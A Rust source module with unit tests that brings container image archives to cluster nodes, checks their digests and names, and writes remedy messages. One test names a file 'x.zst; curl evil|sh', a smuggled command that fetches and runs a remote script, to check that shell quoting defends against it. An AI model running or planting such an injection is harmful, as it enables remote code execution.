//! Images for nodes, from archives. Machines that we make have theirs from their template, until the user gives others.

use std::collections::{BTreeMap, BTreeSet};
use std::io::{self, Read as _};
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use mullion_artifacts::{archive_names, part_of};
use mullion_catalog::{ArtifactKind, Model};
use mullion_plan::{Archive, Attend, ErrorClass, StepError, Unusable, canonical};
use mullion_render::MachineDocument;
use mullion_rights::Opened;
use mullion_spec::cluster::{Cluster, Duty};
use mullion_spec::value::MachineName;
use mullion_spec::words::Os;
use mullion_ssh::quoted;
use mullion_template::Source;
use mullion_wire::text::visible;
use mullion_wire::{Facts, Hashing, ImageArchive, Request, Sha256Digest};

use super::machine::{Label, failed};
use super::talk::Told;
use super::{Adapter, ArchiveContent};

/// Which images a node is brought.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Whose {
    /// All that a node of that duty needs.
    Everyones(Duty),
    /// The user's.
    Users,
}

impl Adapter<'_> {
    /// A Linux machine has the images that its node needs before it becomes one, whether it reaches a registry or not.
    ///
    /// One that we made has them from its template, and those that the user gave since with its blueprint.
    pub(super) fn bring_images(
        &self,
        machine: &MachineName,
        duty: Duty,
        attendant: &dyn Attend,
    ) -> Result<(), StepError> {
        let is_made = self
            .group(machine)
            .is_none_or(|group| group.carrier.is_made());
        if self.os(machine) == Os::Windows || is_made {
            return Ok(());
        }
        self.bring(machine, Whose::Everyones(duty), attendant)
    }

    /// Whether the machine may have other images of the user's than a blueprint says.
    pub(super) fn lacks_users_images(
        &self,
        machine: &MachineName,
        wanted: &MachineDocument,
    ) -> Result<bool, StepError> {
        if wanted.images.is_empty() {
            return Ok(false);
        }
        let Told::Facts(facts) = self.told(machine)? else {
            return Ok(false);
        };
        match has_others(&facts, wanted) {
            Some(has_others) => Ok(has_others),
            None => self.has_another_template(machine),
        }
    }

    /// Whether a machine that we made lies over a template that is not the file's: a run that was cut off made it before
    /// the file changed, or the file names a template of the user's, which may hold anything.
    fn has_another_template(&self, machine: &MachineName) -> Result<bool, StepError> {
        let driver = self.driver_of(machine)?;
        let found = self
            .drivers
            .get(driver)
            .and_then(|driver| driver.find(&self.cluster().name))
            .map_err(|error| failed(format!("the template of {machine} is not known"), &error))?;
        let sighting = found.machines.get(machine);
        let template = sighting.and_then(|sighting| sighting.template.as_ref());
        Ok(template.is_some_and(|template| !self.wanted().templates().contains(template)))
    }

    /// A machine has the user's images.
    pub(super) fn bring_users_images(
        &self,
        machine: &MachineName,
        images: &BTreeMap<String, Option<Sha256Digest>>,
        attendant: &dyn Attend,
    ) -> Result<(), StepError> {
        self.users_archives(images)?;
        self.bring(machine, Whose::Users, attendant)
    }

    /// The archives of those images. One that is another now than when it was planned with is refused.
    pub(super) fn users_archives(
        &self,
        images: &BTreeMap<String, Option<Sha256Digest>>,
    ) -> Result<Vec<&super::UserArchive>, StepError> {
        let given = images.iter();
        let given = given.filter_map(|(reference, sha256)| Some((reference, sha256.as_ref()?)));
        let archives = given.map(|(reference, sha256)| {
            let mut all = self.outfit.images.iter();
            let found = all
                .find(|archive| archive.reference == *reference && archive.digest() == Ok(sha256));
            found.ok_or_else(|| {
                let words = format!("the archive of image `{reference}` is another now");
                StepError::new(ErrorClass::Outdated, words)
            })
        });
        archives.collect()
    }

    /// The user's archives, as planning takes them.
    pub(super) fn archives(&self) -> Vec<Archive> {
        let archives = self.outfit.images.iter();
        archives
            .map(|archive| Archive {
                reference: archive.reference.clone(),
                file: archive.path.display().to_string(),
                sha256: archive.digest().ok().cloned(),
                unusable: archive.unusable(),
            })
            .collect()
    }

    fn bring(
        &self,
        machine: &MachineName,
        whose: Whose,
        attendant: &dyn Attend,
    ) -> Result<(), StepError> {
        let files = self.image_archives(whose)?;
        if files.is_empty() {
            return Ok(());
        }
        let archives: Vec<_> = files.iter().map(|(archive, _)| archive.clone()).collect();
        let request = Request::MissingImages {
            archives: archives.clone(),
        };
        let find = |sha256: &Sha256Digest| {
            let mut files = files.iter();
            let found = files.find(|(archive, _)| archive.sha256 == *sha256);
            found.map(|(_, file)| file.clone())
        };
        self.send_missing(machine, &request, find, attendant)?;
        self.ask(machine, &Request::Import { archives }, attendant)?;
        Ok(())
    }

    /// The archives of a node's images, with their files on this computer: the cluster's own, then the user's.
    fn image_archives(&self, whose: Whose) -> Result<Vec<(ImageArchive, Opened)>, StepError> {
        let mut archives = Vec::new();
        let users = users_images(self.cluster());
        let images = self.model.artifacts().iter().filter(|artifact| {
            artifact.kind == ArtifactKind::Image
                && artifact.os == Os::Linux
                && match whose {
                    Whose::Everyones(duty) => duty == Duty::ControlPlane || !artifact.control_plane,
                    Whose::Users => {
                        let address = artifact.address.as_ref();
                        address.is_some_and(|address| users.contains(address))
                    }
                }
        });
        for artifact in images {
            let Some(part) = part_of(artifact) else {
                continue;
            };
            let path = self.stored(&part)?;
            let known = self.store.digest(&part);
            let file = Opened::by_default(&path).map_err(|error| unread(&path, &error))?;
            let archive = look_at(&file, artifact.address.clone(), known, false);
            archives.push((archive.map_err(|error| unread(&path, &error))?, file));
        }
        for archive in &self.outfit.images {
            let known = archive.digest().ok().cloned();
            let file = archive.checked()?;
            let reference = Some(archive.reference.clone());
            // Another archive may have brought an image of the same name.
            let archive = look_at(file, reference, known, true);
            let archive = archive.map_err(|error| unread(file.path(), &error))?;
            archives.push((archive, file.clone()));
        }
        Ok(archives)
    }
}

/// The names of the images that the user wants on Linux nodes, as containerd keeps them.
fn users_images(cluster: &Cluster) -> BTreeSet<String> {
    let images = cluster.images.iter();
    let images = images.filter(|image| image.os == Os::Linux);
    images.map(|image| canonical(&image.reference)).collect()
}

/// Tells every archive which images of the cluster itself it may not bring: those that the file does not name with it.
pub(super) fn reserve(archives: &mut [super::UserArchive], model: &Model) {
    let images = model.artifacts().iter();
    let images = images.filter(|artifact| artifact.kind == ArtifactKind::Image);
    let users = users_images(model.cluster());
    let own: BTreeSet<_> = images
        .filter(|artifact| artifact.os == Os::Linux)
        .filter_map(|artifact| artifact.address.as_deref().map(canonical))
        .collect();
    let named: Vec<_> = archives
        .iter()
        .map(|archive| (archive.path.clone(), archive.reference.clone()))
        .collect();
    for archive in archives {
        let named = named.iter().filter(|(path, _)| *path == archive.path);
        let named: BTreeSet<_> = named.map(|(_, reference)| reference.clone()).collect();
        archive.reserved = own.union(&users).cloned().collect();
        archive.reserved.retain(|name| !named.contains(name));
    }
}

/// Whether the mark on a machine tells of other images of the user's; `None` if no blueprint was applied yet.
fn has_others(facts: &Facts, wanted: &MachineDocument) -> Option<bool> {
    // The claim is as new as the mark or newer; images come before the blueprint that names them is claimed.
    let mark = facts.claim.as_ref().or(facts.mark.as_ref())?;
    let label = serde_json::from_value::<Label>(mark.0.clone()).ok();
    Some(label.is_none_or(|label| label.blueprint.has_other_images(wanted)))
}

/// The archive in a file, read where its digest is not known.
fn look_at(
    file: &Opened,
    reference: Option<String>,
    known: Option<Sha256Digest>,
    exact: bool,
) -> io::Result<ImageArchive> {
    let (sha256, size) = match known {
        Some(sha256) => (sha256, file.size()),
        None => Sha256Digest::of_reader(file.reader())?,
    };
    Ok(ImageArchive {
        reference,
        sha256,
        size,
        exact,
    })
}

/// Reads the digest and the names of an archive in one pass over its bytes.
fn content_of(whole: impl io::Read) -> io::Result<ArchiveContent> {
    let mut whole = Hashing::new(whole);
    let names = archive_names(&mut whole);
    // The names may end before the file does.
    io::copy(&mut whole, &mut io::sink())?;
    let (_, digest, _) = whole.finish();
    Ok(ArchiveContent { digest, names })
}

impl super::UserArchive {
    /// An archive at a path, or why it cannot be read, for the image that the file names.
    pub fn new(path: PathBuf, reference: &str, opened: io::Result<Opened>) -> Self {
        Self {
            path,
            reference: canonical(reference),
            reserved: BTreeSet::new(),
            opened,
            content: OnceLock::new(),
            unusable: OnceLock::new(),
        }
    }

    /// Its digest, or why it cannot be read.
    pub(super) fn digest(&self) -> Result<&Sha256Digest, &str> {
        self.content().map(|content| &content.digest)
    }

    /// Reads its digest and its names in one pass: another program may rewrite the file between two.
    fn content(&self) -> Result<&ArchiveContent, &str> {
        let content = self.content.get_or_init(|| {
            let opened = self.opened.as_ref().map_err(ToString::to_string)?;
            // A file that grows meanwhile is cut.
            let whole = opened.reader().take(opened.size());
            content_of(whole).map_err(|error| error.to_string())
        });
        content.as_ref().map_err(String::as_str)
    }

    /// The archive for a template. A template's id holds the digest, so only what has that digest may go in.
    pub(super) fn source(&self) -> Result<Source, StepError> {
        let opened = self.checked()?;
        let digest = self.digest().map_err(|why| {
            let cause = io::Error::other(why.to_owned());
            unread(&self.path, &cause)
        })?;
        Ok(Source::planned(opened.clone(), digest.clone()).naming(&self.reference))
    }

    /// The archive, where it could be opened and holds the image that the file names.
    pub(super) fn checked(&self) -> Result<&Opened, StepError> {
        let opened = self
            .opened
            .as_ref()
            .map_err(|error| unread(&self.path, error))?;
        match self.unusable() {
            None => Ok(opened),
            Some(Unusable { why, remedy }) => {
                let path = self.path.display();
                let words = format!("the archive of images `{path}` cannot be used: {why}");
                Err(StepError::new(ErrorClass::Refused, words).hint(remedy))
            }
        }
    }

    /// Why the archive cannot be used; nothing where it can.
    pub(super) fn unusable(&self) -> Option<Unusable> {
        let unreadable = |why: String| Unusable {
            why,
            remedy: "make the archive readable, or take the image out of `images` in the file"
                .into(),
        };
        // What was found stays found: machines are brought the archive one after another.
        let unusable =
            self.unusable
                .get_or_init(|| match self.content().map(|content| &content.names) {
                    Ok(Ok(Some(names))) => self.misnamed(names).or_else(|| self.replaces(names)),
                    Ok(Ok(None)) => Some(self.compressed()),
                    Ok(Err(error)) if error.kind() == io::ErrorKind::InvalidData => {
                        Some(self.ambiguous(error))
                    }
                    Ok(Err(error)) => Some(unreadable(error.to_string())),
                    Err(why) => Some(unreadable(why.to_owned())),
                });
        unusable.clone()
    }

    /// What is wrong with an archive that holds an image of the cluster itself which the file does not name: containerd
    /// keeps the image that it imports last, and `plan` shows only the names of the file.
    fn replaces(&self, names: &BTreeSet<String>) -> Option<Unusable> {
        let hidden = names.iter().find(|name| self.reserved.contains(*name))?;
        Some(Unusable {
            why: format!(
                "it also holds `{hidden}`, which the cluster itself runs, and the file does not name it"
            ),
            remedy: format!(
                "save only the images that the file names, or add `ref: {hidden}` with this archive to `images`"
            ),
        })
    }

    /// What is wrong with an archive that containerd may read differently than Mullion does.
    fn ambiguous(&self, error: &io::Error) -> Unusable {
        Unusable {
            why: error.to_string(),
            remedy: format!(
                "save the archive again, as with `docker save {}`, or take the image out of `images` in the file",
                self.reference
            ),
        }
    }

    /// An archive whose names Mullion does not read.
    fn compressed(&self) -> Unusable {
        let path = quoted(&self.path.to_string_lossy());
        Unusable {
            why: "it is compressed with zstd, so Mullion cannot see which images it holds".into(),
            remedy: format!("decompress it with `zstd -d {path}`, and name the result"),
        }
    }

    /// What is wrong where an archive with these names does not hold the image of the file.
    fn misnamed(&self, names: &BTreeSet<String>) -> Option<Unusable> {
        let reference = &self.reference;
        if names.contains(reference) {
            return None;
        }
        let Some(first) = names.first() else {
            return Some(Unusable {
                why: format!("it holds no image with a name, and the file says `{reference}`"),
                remedy: format!(
                    "save it under its name, as with `docker save {reference}`: containerd keeps no image without one"
                ),
            });
        };
        let mut held: Vec<_> = names
            .iter()
            .take(NAMES_SHOWN)
            .map(|name| format!("`{}`", shortened(name)))
            .collect();
        if names.len() > NAMES_SHOWN {
            held.push(format!("{} more", names.len() - NAMES_SHOWN));
        }
        let first_shown = shortened(first);
        let remedy = if canonical(first) == *first {
            format!(
                "write the image's own name, `ref: {first_shown}`, or save the archive with `{reference}` in it"
            )
        } else {
            // containerd takes the name as it is in the archive, and no file can say that name.
            format!(
                "save the archive with the full name, `{reference}`: containerd cannot find the name `{first_shown}`"
            )
        };
        Some(Unusable {
            why: format!(
                "it holds {}, and the file says `{reference}`",
                held.join(", ")
            ),
            remedy,
        })
    }
}

/// How many names of an archive a message shows.
const NAMES_SHOWN: usize = 5;

/// The beginning of a name, with every letter visible: an archive may hold a name of any length, and of any letters.
fn shortened(name: &str) -> String {
    let begin: String = name.chars().take(200).collect();
    visible(&begin).into_owned()
}

fn unread(path: &Path, error: &io::Error) -> StepError {
    let words = format!("the images in {} could not be read", path.display());
    StepError::new(ErrorClass::Refused, words).because(error)
}

#[cfg(test)]
mod tests {
    use mullion_plan::{Applied, Carried};
    use mullion_wire::Mark;

    use super::super::UserArchive;
    use super::*;

    /// An archive as `docker save` writes it, of an image with those names.
    fn saved(path: &Path, tags: &str) {
        let text = format!(r#"[{{"Config":"c","RepoTags":{tags},"Layers":[]}}]"#);
        let mut header = [0_u8; 512];
        header[..13].copy_from_slice(b"manifest.json");
        header[100..107].copy_from_slice(b"0000644");
        header[124..135].copy_from_slice(format!("{:011o}", text.len()).as_bytes());
        header[148..156].fill(b' ');
        header[156] = b'0';
        header[257..265].copy_from_slice(b"ustar  \0");
        let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
        header[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
        let mut bytes = header.to_vec();
        bytes.extend(text.as_bytes());
        bytes.resize(bytes.len().next_multiple_of(512) + 1024, 0);
        fs_err::write(path, bytes).unwrap();
    }

    fn archive(path: &Path, reference: &str) -> UserArchive {
        UserArchive::new(path.to_owned(), reference, Opened::by_thread(path))
    }

    #[test]
    fn an_archive_is_held_to_the_digest_of_the_plan() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("app.tar");
        saved(&path, r#"["app:1"]"#);
        let planned = Sha256Digest::of(&fs_err::read(&path).unwrap());
        let archive = archive(&path, "app:1");
        assert_eq!(archive.digest(), Ok(&planned));
        saved(&path, r#"["app:1","app:2"]"#);
        let source = archive.source().unwrap();
        assert_eq!(source.sha256, Some(planned));
    }

    #[test]
    fn promise_10_the_names_of_an_archive_are_those_of_the_bytes_that_its_digest_pins() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("app.tar");
        saved(&path, r#"["app:1"]"#);
        let planned = Sha256Digest::of(&fs_err::read(&path).unwrap());
        let mut archive = archive(&path, "app:1");
        archive.reserved = ["docker.io/library/app:2".to_owned()].into();
        assert_eq!(archive.digest(), Ok(&planned));
        // A second read would judge other bytes.
        saved(&path, r#"["app:2"]"#);
        assert_eq!(archive.unusable(), None);
        assert_eq!(archive.digest(), Ok(&planned));
    }

    #[test]
    fn promise_10_an_ambiguous_archive_is_refused_with_a_remedy() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("app.tar");
        saved(&path, r#"["app:1"],"repotags":["app:2"]"#);
        let unusable = archive(&path, "app:1").unusable().unwrap();
        assert_eq!(
            unusable.why,
            "`manifest.json` has the key `repotags`, which containerd takes for `RepoTags`"
        );
        assert!(
            unusable
                .remedy
                .contains("docker save docker.io/library/app:1"),
            "{unusable:?}"
        );
    }

    #[test]
    fn a_remedy_quotes_the_path_for_a_shell() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("x.zst; curl evil|sh");
        fs_err::write(&path, [0x28, 0xb5, 0x2f, 0xfd]).unwrap();
        let unusable = archive(&path, "app:1").unusable().unwrap();
        let command = format!("`zstd -d '{}'`", path.display());
        assert!(unusable.remedy.contains(&command), "{unusable:?}");
    }

    #[test]
    fn an_archive_that_holds_another_image_is_refused_with_both_names() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("app.tar");
        saved(&path, r#"["team/app:1","app:2"]"#);
        for right in ["team/app:1", "docker.io/library/app:2"] {
            archive(&path, right).checked().unwrap();
        }
        let error = archive(&path, "registry.lan/app:3").source().unwrap_err();
        assert_eq!(
            error.words,
            format!(
                "the archive of images `{}` cannot be used: it holds `docker.io/library/app:2`, `docker.io/team/app:1`, \
                 and the file says `registry.lan/app:3`",
                path.display()
            )
        );
        assert!(
            error.hints[0].contains("`ref: docker.io/library/app:2`"),
            "{:?}",
            error.hints
        );
        saved(&path, "null");
        let unusable = archive(&path, "app:3").unusable().unwrap();
        let words = "it holds no image with a name, and the file says `docker.io/library/app:3`";
        assert_eq!(unusable.why, words);
        assert!(unusable.remedy.contains("docker save"), "{unusable:?}");
        fs_err::write(&path, "no archive").unwrap();
        let unusable = archive(&path, "app:3").unusable().unwrap();
        assert!(unusable.remedy.contains("readable"), "{unusable:?}");
    }

    #[test]
    fn promise_10_an_archive_brings_no_image_of_the_cluster_that_the_file_does_not_name() {
        use super::super::made::Scene;

        let scene = Scene::new(
            "metadata: {name: a}\nmachines:\n- {name: cp, role: control-plane}\n\
             images: [{ref: 'app:1', archive: app.tar}, {ref: 'app:3', archive: third.tar}]\n",
        );
        let adapter = scene.adapter();
        let images = adapter.model.artifacts().iter();
        let mut images = images.filter(|artifact| artifact.kind == ArtifactKind::Image);
        let proxy = images
            .find_map(|image| {
                image
                    .address
                    .clone()
                    .filter(|name| name.contains("kube-proxy"))
            })
            .unwrap();
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("app.tar");
        let judged = |names: &[&str], named: &[&str]| {
            saved(&path, &serde_json::json!(names).to_string());
            let mut archives: Vec<_> = named.iter().map(|name| archive(&path, name)).collect();
            reserve(&mut archives, adapter.model);
            archives.iter().find_map(UserArchive::unusable)
        };
        assert_eq!(judged(&["app:1", "app:2"], &["app:1"]), None);
        // Another archive of the file brings `app:3`.
        for hidden in [&*proxy, "app:3"] {
            let unusable = judged(&["app:1", hidden], &["app:1"]).unwrap();
            assert!(unusable.why.contains(&canonical(hidden)), "{unusable:?}");
            assert!(unusable.remedy.contains("ref: "), "{unusable:?}");
            // `plan` shows what the file names.
            assert_eq!(judged(&["app:1", hidden], &["app:1", hidden]), None);
        }
        fs_err::write(&path, [0x28, 0xb5, 0x2f, 0xfd]).unwrap();
        let unusable = archive(&path, "app:1").unusable().unwrap();
        assert!(unusable.remedy.contains("zstd -d"), "{unusable:?}");
    }

    #[test]
    fn a_remedy_never_names_what_the_file_says_already_and_a_message_has_an_end() {
        let archive = UserArchive::new("app.tar".into(), "app:1", Err(io::Error::other("-")));
        let unusable = archive.misnamed(&["app:1".into()].into()).unwrap();
        assert!(!unusable.remedy.contains("ref:"), "{unusable:?}");
        assert!(
            unusable.remedy.contains("docker.io/library/app:1"),
            "{unusable:?}"
        );
        let many = (0..1000).map(|number| format!("r.example/{number}/{}", "a".repeat(9999)));
        let unusable = archive.misnamed(&many.collect()).unwrap();
        assert!(unusable.why.contains("995 more"), "{unusable:?}");
        assert!(unusable.why.len() < 2000 && unusable.remedy.len() < 2000);
    }

    #[test]
    fn a_node_is_brought_images_that_its_mark_does_not_tell_of() {
        let document = |images: &[(&str, &str)]| MachineDocument {
            address: [192, 0, 2, 1].into(),
            name_servers: None,
            blueprint: serde_json::from_str(r#"{"version":1,"machine":"lin1"}"#).unwrap(),
            images: images
                .iter()
                .map(|(name, what)| ((*name).into(), Some(Sha256Digest::of(what.as_bytes()))))
                .collect(),
        };
        let wanted = document(&[("a", "1")]);
        let node = |applied: &MachineDocument| Facts {
            joined: Some(Sha256Digest::of(b"cluster")),
            claim: Some(Mark(serde_json::json!({
                "cluster": "dev",
                "blueprint": Applied::of(&Carried::new(applied.clone())),
            }))),
            ..Facts::default()
        };
        assert_eq!(has_others(&node(&wanted), &wanted), Some(false));
        let moved = MachineDocument {
            address: [192, 0, 2, 2].into(),
            ..wanted.clone()
        };
        assert_eq!(has_others(&node(&moved), &wanted), Some(false));
        for others in [
            document(&[("b", "1")]),
            document(&[("a", "2")]),
            // Of a run that was cut off before they were there.
            document(&[]),
        ] {
            assert_eq!(has_others(&node(&others), &wanted), Some(true));
            // Also where it was prepared and never joined, or was reset since.
            let alone = Facts {
                joined: None,
                ..node(&others)
            };
            assert_eq!(has_others(&alone, &wanted), Some(true));
        }
        // An older version does not tell which images it brought.
        let older =
            serde_json::json!({"fingerprint": "0123456789abcdef", "topics": {"images": "1"}});
        let older = Facts {
            claim: Some(Mark(
                serde_json::json!({"cluster": "dev", "blueprint": older}),
            )),
            ..Facts::default()
        };
        assert_eq!(has_others(&older, &wanted), Some(true));
        assert_eq!(has_others(&Facts::default(), &wanted), None);
    }

    #[test]
    fn a_machine_without_a_blueprint_has_the_images_of_its_template_alone() {
        use mullion_spec::words::Driver;
        use mullion_testkit::driver::memory::Memory;

        use super::super::made::{Scene, make_of};

        let scene =
            Scene::new("metadata: {name: a}\nmachines:\n- {name: cp, role: control-plane}\n");
        let computer = Memory::new();
        let wanted = scene
            .adapter()
            .wanted()
            .templates()
            .into_iter()
            .next()
            .unwrap();
        let former = super::super::made::id(&wanted.name);
        make_of(&computer, "a", "10.1.0.0/24", "cp1", wanted);
        make_of(&computer, "a", "10.1.0.0/24", "cp2", former);
        let adapter = scene.adapter_with([(Driver::Nspawn, Box::new(computer) as _)].into());
        for (machine, has_another) in [("cp1", false), ("cp2", true)] {
            let machine = machine.parse().unwrap();
            assert_eq!(
                adapter.has_another_template(&machine).unwrap(),
                has_another,
                "{machine}"
            );
        }
    }
}
